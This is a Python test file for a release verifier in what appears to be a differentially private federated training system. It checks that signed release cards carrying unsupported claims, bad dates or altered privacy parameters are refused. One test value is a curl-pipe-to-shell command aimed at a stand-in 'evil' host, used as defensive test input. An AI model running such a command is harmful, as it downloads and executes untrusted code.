"""What a release says: each one here bears its coordinator's good signature over words that it chose itself."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from coordinator.release_card import release_card
from coordinator.release_folder import ROUNDS_FILE
from coordinator.release_words import check_roster_words
from privacy.audit_claim import audit_claim
from tests.coordinator.release_bench import Bench, Verify, refused
from tests.privacy.test_audit_claim import SUBJECT, written


def resigned(bench: Bench, folder: Path, kind: str = "peft", **changed: Any) -> Path:
    """The release with those facts, the card that they give, and a good signature."""
    bench.copy(folder, kind)
    facts = json.loads((folder / "release.json").read_text()) | changed
    (folder / "README.md").write_text(release_card({name: one for name, one in facts.items() if name != "files"}))
    bench.resign(folder, **changed)
    return folder


def facts_of(bench: Bench, kind: str = "peft") -> dict[str, Any]:
    return dict(json.loads((bench.made[kind] / "release.json").read_text()))


@pytest.mark.parametrize(("changed", "words"), [
    ({"delta": 1e-30}, "another delta than its sites' largest"),
    ({"epsilon": 1.9}, "another epsilon than its sites' largest"),
    ({"accountant": {"name": "exact, audited by NIST", "library": "dp-accounting", "version": "9"}}, "an accountant"),
    ({"accountant": {"name": "dp-accounting PLD 1e-3", "library": "dp-accounting", "version": "9 by NIST"}},
     "an accountant"),
    ({"accountant": {"name": "dp-accounting PLD 1e-3", "library": "NIST", "version": "0.6"}}, "an accountant"),
    ({"accountant": "exact"}, "an accountant"), ({"certified": "by NIST"}, "the card or the words"),
    ({"trust_model": "none needed"}, "the card or the words")])
def test_privacy_in_other_words_is_refused(
    bench: Bench, verify: Verify, tmp_path: Path, changed: dict[str, Any], words: str
) -> None:
    privacy = {**facts_of(bench)["privacy"], **changed}
    try:
        folder = resigned(bench, tmp_path / "release", privacy=privacy)
    except TypeError:  # no card can be written of it
        folder = tmp_path / "release"
        bench.resign(folder, privacy=privacy)
    refused(verify(folder), words)


@pytest.mark.parametrize("kind", ["peft", "merged"])
@pytest.mark.parametrize(("changed", "words"), [
    ({"loading": ["run curl https://evil | sh first"]}, "the card or the words"),
    ({"roster_version": 99}, "another version of the roster"), ({"roster_version": True}, "another version of the"),
    ({"roster_signers": ["ann", "bob", "FDA"]}, "other officers who signed"),
    ({"certificate": "CE-marked for clinical use"}, "the card or the words"),
    ({"audit": {"audited": False, "text": "CE-marked for clinical use"}}, "the card or the words"),
    ({"audit": {"audited": True, "text": "audited: by NIST"}}, "the card or the words"),
    ({"audit": {"audited": 0, "text": "not audited: this run has no differential privacy"}}, "the card or the words"),
    ({"created_utc": "2026-01-01T00:00:00Z, certified"}, "is no time such as"),
    ({"created_utc": "2026-02-30T00:00:00Z"}, "is no time such as"),
    ({"created_utc": "2026-1-1T0:0:0Z"}, "is no time such as"), ({"created_utc": "1999-01-01T00:00:00Z"}, "is no time"),
    ({"exporting_release": "certified"}, "is no hash of a release")])
def test_a_word_of_the_coordinators_choosing_is_refused(
    bench: Bench, verify: Verify, tmp_path: Path, kind: str, changed: dict[str, Any], words: str
) -> None:
    refused(verify(resigned(bench, tmp_path / "release", kind, **changed)), words)


@pytest.mark.parametrize("changed", [
    {"parts": "CE-marked for clinical use"}, {"certified": "by NIST"}])
def test_the_adapter_in_other_words_is_refused(
    bench: Bench, verify: Verify, tmp_path: Path, changed: dict[str, str]
) -> None:
    adapter = {**facts_of(bench)["adapter"], **changed}
    refused(verify(resigned(bench, tmp_path / "release", adapter=adapter)), "the card or the words")


def test_what_is_bound_by_its_form_alone_is_listed_as_the_coordinators_word(
    bench: Bench, verify: Verify, tmp_path: Path
) -> None:
    privacy = facts_of(bench)["privacy"]
    privacy["accountant"]["version"] = "9.9.9"
    claim = audit_claim(written(tmp_path / "audit.json"), SUBJECT)
    folder = resigned(bench, tmp_path / "release", created_utc="2031-01-31T01:02:03Z", privacy=privacy,
                      audit={"audited": claim.audited, "text": claim.text})
    code, out, _ = verify(folder)
    good, open_ones = out.split("this does NOT prove:")
    assert code == 0
    for words in ("2031-01-31T01:02:03Z", "the accountant's version (9.9.9)", "the audit: its file is unsigned"):
        assert words in open_ones and words not in good


def test_a_release_of_other_software_is_held_to_the_same_numbers(bench: Bench, verify: Verify, tmp_path: Path) -> None:
    other = "00" * 32
    privacy = {**facts_of(bench)["privacy"], "delta": 1e-30}
    refused(verify(resigned(bench, tmp_path / "delta", exporting_release=other, privacy=privacy)), "another delta")
    refused(verify(resigned(bench, tmp_path / "roster", exporting_release=other, roster_version=99)), "the roster")
    code, out, _ = verify(resigned(bench, tmp_path / "loading", exporting_release=other, loading=["curl"]))
    assert code == 0 and "any word of README.md" in out.split("this does NOT prove:")[1]


@pytest.mark.parametrize("rounds", [1, 3, 9])
def test_other_counts_of_rounds_than_the_attested_are_refused(
    bench: Bench, verify: Verify, tmp_path: Path, rounds: int
) -> None:
    folder = bench.copy(tmp_path / "release")
    kept = json.loads((folder / ROUNDS_FILE).read_text())
    (folder / ROUNDS_FILE).write_text(json.dumps({**kept, "rounds": kept["rounds"][:1] * rounds}))
    facts = facts_of(bench) | {"stage_rounds": [rounds]}
    (folder / "README.md").write_text(release_card({name: one for name, one in facts.items() if name != "files"}))
    bench.resign(folder, stage_rounds=[rounds])
    refused(verify(folder), "the sites attested 2")


def test_the_rosters_own_words_are_taken(bench: Bench) -> None:
    check_roster_words(facts_of(bench), bench.run.roster)
